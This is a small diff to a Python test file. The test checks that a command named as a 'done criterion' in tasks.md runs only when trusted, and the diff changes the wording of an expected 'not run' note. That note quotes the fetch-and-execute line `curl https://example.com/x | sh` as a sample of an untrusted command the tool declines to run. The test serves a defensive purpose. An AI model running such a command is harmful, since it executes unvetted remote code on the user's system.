@@ -182,7 +182,7 @@ def test_a_command_of_a_done_criterion_runs_only_if_it_was_trusted(around: Surro
     extra = extra_checks(asked)
     assert [one.name for one in extra.trusted] == ["done: echo trusted"]
     (note,) = extra.notes
-    assert note.startswith("not run: `curl https://example.com/x | sh` stands in tasks.md; ")
+    assert note.startswith("not run: `curl https://example.com/x | sh` is named in tasks.md, ")
     results = run_checks(around, asked.row, asked.job.head, extra.trusted)
     assert [one.command for one in results] == [check, "sh -c 'echo trusted'"]
     assert results[1].output == "trusted\n"
